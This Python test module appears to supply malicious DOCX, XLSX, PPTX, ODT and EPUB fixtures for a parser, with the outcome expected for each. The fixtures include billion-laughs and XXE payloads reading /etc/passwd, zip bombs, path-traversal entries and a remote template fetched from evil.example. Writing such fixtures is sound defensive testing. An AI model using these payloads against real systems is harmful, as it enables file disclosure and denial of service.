"""Office documents and books that want to hurt their reader, and what is to be said of each."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Mapping

from websearch_core.testing.samples import archives
from websearch_core.testing.samples.archives import docx_parts, epub_parts, word_paragraph, zipped

from .case import Case

_OPEN = "application/vnd.openxmlformats-officedocument"
DOCX = f"{_OPEN}.wordprocessingml.document"
XLSX = f"{_OPEN}.spreadsheetml.sheet"
PPTX = f"{_OPEN}.presentationml.presentation"
EPUB = "application/epub+zip"
ODT = "application/vnd.oasis.opendocument.text"
SCHEMAS = "http://schemas.openxmlformats.org"
MEGABYTE = 1_000_000
TOO_LARGE = "too_large: unpacks to more"
ENTITIES = "unsupported: entities"

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
XXE = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"


def repacked(body: bytes, changes: Mapping[str, bytes | str]) -> bytes:
    """The archive with other files in it."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        parts: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, **changes})


def before_root(body: bytes, name: str, doctype: str) -> bytes:
    """The archive with a document type in one of its files."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        content = archive.read(name).decode()
    head, _, rest = content.partition("?>")
    return repacked(body, {name: f"{head}?>{doctype}{rest}"})


def with_flag(body: bytes) -> bytes:
    """Every entry says that it is encrypted."""
    raw = bytearray(body)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = raw.find(mark)
        while found >= 0:
            raw[found + place] |= 1
            found = raw.find(mark, found + 4)
    return bytes(raw)


def with_lies(body: bytes) -> bytes:
    """Every entry claims to unpack to a hundred bytes."""
    raw = bytearray(body)
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        found = raw.find(mark)
        while found >= 0:
            raw[found + place : found + place + 4] = (100).to_bytes(4, "little")
            found = raw.find(mark, found + 4)
    return bytes(raw)


def many_entries(count: int) -> bytes:
    """So many empty files."""
    return zipped({f"word/{number}.xml": "" for number in range(count)})


def packed_by(method: int) -> bytes:
    """A text document that is compressed in another way."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in docx_parts(word_paragraph("Rivers")).items():
            archive.writestr(name, content)
    return out.getvalue()


def sheet(rows: str, after: str = "") -> bytes:
    """A workbook whose only sheet has these rows."""
    content = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData>{after}</worksheet>'
    return repacked(archives.xlsx({"A": [["x"]]}), {"xl/worksheets/sheet1.xml": content})


def slide(shapes: str) -> bytes:
    """A presentation whose only slide has these shapes."""
    spaces = f'xmlns:a="{SCHEMAS}/drawingml/2006/main" xmlns:p="{SCHEMAS}/presentationml/2006/main"'
    body = f"<p:sld {spaces}><p:cSld><p:spTree>{shapes}</p:spTree></p:cSld></p:sld>"
    return repacked(archives.pptx([("Title", ["text"])]), {"ppt/slides/slide1.xml": body})


def columns(described: str) -> bytes:
    """A workbook whose only sheet says this of its columns."""
    body = f"<worksheet><cols>{described}</cols><sheetData/></worksheet>"
    return repacked(archives.xlsx({"A": [["x"]]}), {"xl/worksheets/sheet1.xml": body})


def look(sheet: str) -> bytes:
    """A book with a style sheet and 20,000 elements that it may be about."""
    chapter = f"<style>{sheet}</style>{'<p class=x>y</p>' * 20_000}"
    return book(chapter)


def book(chapter: str) -> bytes:
    """A book of one chapter."""
    return archives.epub({"a.xhtml": chapter})


def cases() -> Iterator[Case]:
    """Every file."""
    yield from _office()
    yield from _workbooks()
    yield from _books()
    yield Case("odt good", ODT, archives.odt("<text:p>Rivers</text:p>"))
    yield Case("odt laughs", ODT, before_root(archives.odt("<text:p>Rivers</text:p>"), "content.xml", LAUGHS), ENTITIES)
    yield Case("odt bomb", ODT, archives.odt(f"<text:p>{' ' * 25 * MEGABYTE}</text:p>"), TOO_LARGE)
    locked = repacked(
        archives.odt(""),
        {
            "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            "<m:encryption-data/></m:manifest>"
        },
    )
    yield Case("odt with a password", ODT, locked, "unsupported: password")
    nested = "<text:list><text:list-item>" * 60 + "<text:p>deep</text:p>" + "</text:list-item></text:list>" * 60
    yield Case("odt with lists nested 60 deep", ODT, archives.odt(nested))
    yield Case("odt with a million blanks", ODT, archives.odt('<text:p>a<text:s text:c="99999999999"/>b</text:p>'))


def _office() -> Iterator[Case]:
    good = archives.docx("# Rivers", "Text.")
    yield Case("docx good", DOCX, good)
    yield Case("docx as a zip", "application/zip", good)
    yield Case("docx as HTML", "text/html", good)
    for eighths in range(1, 8):
        yield Case(f"docx cut at {eighths}/8", DOCX, good[: len(good) * eighths // 8], "drift: damaged")
    yield Case("docx cut by the limit", DOCX, good[: len(good) // 2], "too_large: limit on downloads", truncated=True)
    yield Case("docx that is none", DOCX, b"plain words", "unsupported: is none")
    yield Case("docx that is a page", DOCX, b"<html>Rivers</html>")
    yield Case("docx that is a book", DOCX, archives.epub({"a.xhtml": "<p>x</p>"}), "unsupported: no Office")
    yield Case("zip without files", "application/zip", zipped({}), "unsupported: application/zip")
    yield Case("zip of other files", "application/zip", zipped({"a.txt": "x"}), "unsupported: application/zip")
    yield Case("docx with a password", DOCX, with_flag(good), "unsupported: password")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
    yield Case("docx locked by Office", DOCX, ole + "EncryptedPackage".encode("utf-16-le"), "unsupported: password")
    yield Case("doc", "application/msword", ole, "unsupported: old binary")
    yield Case("doc without a type", "", ole, "unsupported: old binary")
    yield Case("docx bomb", DOCX, zipped(docx_parts(word_paragraph(" " * 25 * MEGABYTE))), TOO_LARGE)
    many = {f"word/header{number}.xml": b"<a>" + b" " * 19 * MEGABYTE + b"</a>" for number in range(3)}
    yield Case("docx bomb in many parts", DOCX, zipped({**docx_parts(""), **many}), TOO_LARGE)
    yield Case("docx that lies about its sizes", DOCX, with_lies(good), "drift: damaged")
    yield Case("docx of 20,001 files", DOCX, many_entries(20_001), "too_large: 20,000 files")
    for name, method in {"bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.items():
        yield Case(f"docx in {name}", DOCX, packed_by(method), "unsupported: compressed in a way")
    for part in ("word/document.xml", "word/styles.xml", "docProps/core.xml", "_rels/.rels", "[Content_Types].xml"):
        yield Case(f"docx laughs in {part}", DOCX, before_root(good, part, LAUGHS), ENTITIES)
        yield Case(f"docx with a foreign file in {part}", DOCX, before_root(good, part, XXE), ENTITIES)
        yield Case(f"docx with nothing in {part}", DOCX, repacked(good, {part: ""}), "drift: damaged")
    yield Case("docx with words for XML", DOCX, repacked(good, {"word/document.xml": "words & <"}), "drift: damaged")
    yield Case(
        "docx nested 5,000 deep",
        DOCX,
        zipped(docx_parts("<w:x>" * 5000 + "</w:x>" * 5000)),
        "unsupported: nested too deep",
    )
    table = "<w:tbl><w:tr><w:tc>" * 45 + word_paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 45
    yield Case("docx with tables nested 45 deep", DOCX, zipped(docx_parts(table)))
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{word_paragraph("x")}</w:tc>'
    wide = f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"
    yield Case("docx with a cell a billion wide", DOCX, zipped(docx_parts(wide)))
    yield Case("docx with 20,000 paragraphs", DOCX, zipped(docx_parts(word_paragraph("Rivers.") * 20_000)))
    yield Case(
        "docx with 20,000 hidden runs",
        DOCX,
        zipped(docx_parts(word_paragraph("x", "", "<w:vanish/>") * 20_000 + word_paragraph("y"))),
    )
    yield Case("docx with an address of blanks", DOCX, archives.docx(f"]({' ' * 20_000}x"))
    yield Case("docx with macros", DOCX, repacked(good, {"word/vbaProject.bin": b"\xd0\xcf" * 500}), notes="macros")
    yield Case("docx that climbs out", DOCX, repacked(good, {"../../../etc/cron.d/x.xml": "<a/>"}))
    style = '<w:style w:type="paragraph" w:styleId="Heading1"><w:basedOn w:val="Heading1"/></w:style>'
    loop = f'<w:styles xmlns:w="{SCHEMAS}/wordprocessingml/2006/main">{style}</w:styles>'
    yield Case("docx with a style based on itself", DOCX, repacked(good, {"word/styles.xml": loop}))
    away = (
        f'<Relationships xmlns="{SCHEMAS}/package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
        f'Type="{SCHEMAS}/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/>'
        "</Relationships>"
    )
    yield Case("docx with a foreign template", DOCX, repacked(good, {"word/_rels/document.xml.rels": away}))
    place = '<a:xfrm><a:off x="1" y="1"/><a:ext cx="1" cy="1"/></a:xfrm>'
    shape = "<p:sp><p:spPr>{}</p:spPr><p:txBody><a:p><a:r><a:rPr>{}</a:rPr><a:t>x</a:t></a:r></a:p></p:txBody></p:sp>"
    fill = '<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'
    painted, white = shape.format(place + fill, "") * 10_000, shape.format(place, fill) * 10_000
    slides = [("Title", ["text"])] * 1000
    yield Case("pptx of 1,000 slides", PPTX, archives.pptx(slides))
    yield Case("pptx of 20,000 shapes", PPTX, slide(painted + white))
    yield Case("pptx of 190 groups", PPTX, slide("<p:grpSp>" * 190 + "</p:grpSp>" * 190))
    yield Case("pptx with places beyond all", PPTX, slide(painted.replace('"1"', f'"{"9" * 5000}"')))
    yield Case("pptx laughs", PPTX, before_root(archives.pptx(slides[:1]), "ppt/slides/slide1.xml", LAUGHS), ENTITIES)
    yield Case(
        "pptx whose slide is missing",
        PPTX,
        repacked(archives.pptx(slides[:2]), {"ppt/slides/slide1.xml": ""}),
        "drift: damaged",
    )


def _workbooks() -> Iterator[Case]:
    yield Case("xlsx good", XLSX, archives.xlsx({"A": [["x", 1]]}))
    yield Case("xlsx laughs", XLSX, before_root(archives.xlsx({"A": [["x"]]}), "xl/workbook.xml", LAUGHS), ENTITIES)
    yield Case("xlsx bomb", XLSX, sheet("<row>" + " " * 25 * MEGABYTE + "</row>"), TOO_LARGE)
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 20_001))
    yield Case("xlsx of 20,000 rows", XLSX, sheet(rows), notes="the first 100")
    corner = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    yield Case("xlsx with a cell in the last corner", XLSX, sheet(corner))
    beyond = '<row r="99999999999"><c r="ZZZZZZZ99999999999"><v>2</v></c></row>'
    yield Case("xlsx with a cell beyond the sheet", XLSX, sheet(beyond))
    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield Case("xlsx with everything merged", XLSX, sheet('<row r="1"><c r="A1"><v>1</v></c></row>', merged))
    wide = "".join(f"<c><v>{n}</v></c>" for n in range(16_384))
    yield Case("xlsx of 16,384 columns", XLSX, sheet(f"<row>{wide}</row>" * 3))
    yield Case(
        "xlsx with a shared string that is none", XLSX, sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>')
    )
    yield Case(
        "xlsx with numbers that are none",
        XLSX,
        sheet('<row r="1"><c r="A1"><v>1e999999</v></c><c r="B1"><v>nan</v></c></row>'),
    )
    hides = '<col min="1" max="16384" hidden="1"/>' * 100_000
    yield Case("xlsx that hides all columns 100,000 times", XLSX, columns(hides))
    yield Case("xlsx that hides columns of nobody", XLSX, columns('<col min="-5" max="9999999999" hidden="1"/>'))
    yield Case("xlsx of 20,000 hidden rows", XLSX, sheet(rows.replace("<row ", '<row hidden="1" ')))
    yield Case("xlsx of 500 sheets", XLSX, archives.xlsx({f"S{n}": [["x"]] for n in range(500)}))


def _books() -> Iterator[Case]:
    good = book("<h1>Rivers</h1><p>Text.</p>")
    yield Case("epub good", EPUB, good)
    yield Case("epub cut", EPUB, good[: len(good) // 2], "drift: damaged")
    yield Case("epub that is none", EPUB, b"words", "unsupported: is none")
    yield Case("epub that is a text document", EPUB, archives.docx("x"), "drift: package document")
    for part in ("OEBPS/book.opf", "META-INF/container.xml"):
        yield Case(f"epub laughs in {part}", EPUB, before_root(good, part, LAUGHS), ENTITIES)
        yield Case(f"epub with nothing in {part}", EPUB, repacked(good, {part: ""}))
    yield Case("epub laughs in a chapter", EPUB, before_root(good, "OEBPS/text/a.xhtml", LAUGHS))
    yield Case("epub with a foreign file in a chapter", EPUB, before_root(good, "OEBPS/text/a.xhtml", XXE))
    yield Case(
        "epub without its chapters",
        EPUB,
        zipped({name: content for name, content in epub_parts({"a": "x"}).items() if "text" not in name}),
        "unsupported: no text",
    )
    yield Case("epub bomb", EPUB, book("<p>" + " " * 25 * MEGABYTE + "</p>"), TOO_LARGE)
    yield Case(
        "epub of 3,000 chapters",
        EPUB,
        archives.epub({f"{n}.xhtml": f"<p>{n}</p>" for n in range(3000)}),
        notes="only the first",
    )
    once = '<itemref idref="c0"/>'
    spine = str(epub_parts({"a.xhtml": ""})["OEBPS/book.opf"]).replace(once, once * 10_000)
    yield Case("epub whose spine repeats", EPUB, repacked(good, {"OEBPS/book.opf": spine}))
    yield Case("epub with a chapter nested 50,000 deep", EPUB, book("<div>" * 50_000 + "x"))
    yield Case("epub with quotes nested 5,000 deep", EPUB, book("<blockquote>" * 5000 + "x" + "<p>y</p>" * 5000))
    yield Case(
        "epub with scripts",
        EPUB,
        book("<script>while(1){}</script><p onclick='x()'>Text <a href='javascript:x()'>here</a></p>"),
    )
    yield Case("epub with a million cells", EPUB, book("<table>" + "<tr><td>1</td></tr>" * 50_000 + "</table>"))
    yield Case(
        "epub with a cell a billion wide",
        EPUB,
        book("<table><tr><td colspan='999999999' rowspan='999999999'>1</td></tr></table>"),
    )
    container = str(epub_parts({"a.xhtml": "x"})["META-INF/container.xml"])
    climbing = container.replace("OEBPS/book.opf", "../../../etc/passwd")
    yield Case(
        "epub that climbs out", EPUB, repacked(good, {"META-INF/container.xml": climbing}), "drift: package document"
    )
    for name, style in {
        "10,000 rules": "".join(f".x{{color:#fff;left:{n}px}}" for n in range(10_000)),
        "open comments": "/*" * 100_000,
        "a selector of blanks": f".x{' ' * 100_000}!{{display:none}}",
        "100,000 at-rules": "@media screen{" * 100_000,
        "a clip of blanks": f".x{{clip:rect(0{' ' * 100_000}x}}",
    }.items():
        yield Case(f"epub with {name}", EPUB, look(style))
    drm = '<encryption xmlns:e="http://e"><e:CipherReference URI="OEBPS/text/a.xhtml"/></encryption>'
    yield Case("epub with DRM", EPUB, repacked(good, {"META-INF/encryption.xml": drm}), "unsupported: DRM")
